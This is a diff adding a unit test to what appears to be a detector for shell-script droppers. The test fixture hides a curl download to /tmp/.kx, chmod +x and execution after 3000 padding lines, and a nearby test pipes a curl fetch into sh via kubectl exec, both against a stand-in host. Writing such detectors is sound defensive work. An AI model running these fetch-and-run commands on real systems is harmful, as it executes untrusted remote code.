@@ -188,6 +188,22 @@ def test_evidence_points_at_the_line() -> None:
     assert hide.hits[0].line == 4
 
 
+def test_a_download_and_run_after_padding_is_found_on_its_line() -> None:
+    # Thousands of lines before the download, some with a fetch that is never run, and a
+    # continued line: the hit names the download that is run, at its line in the file.
+    pad = "echo step\n" * 3000 + "wget -q http://192.0.2.1/readme -O /tmp/readme.txt\n"
+    text = (
+        "#!/bin/sh\n"
+        + pad
+        + "curl -s http://192.0.2.1/x \\\n  -o /tmp/.kx\n"
+        + "chmod +x /tmp/.kx\n/tmp/.kx -B\n"
+    )
+    a = dropper.analyse(text, IT)
+    dl = next(s for s in a.behaviours if s.behaviour is B.DOWNLOAD_EXEC)
+    hit = next(h for h in dl.hits if h.sub.key == "download made executable and run")
+    assert (hit.line, hit.detail) == (3003, "/tmp/.kx")
+
+
 def test_kubectl_exec_of_a_fetch_is_container_abuse() -> None:
     snippet = 'kubectl exec -n default $pod -- sh -c "curl -s http://192.0.2.1/k.sh | sh"'
     kinds = {s.behaviour for s in dropper.analyse(snippet, IT).behaviours}
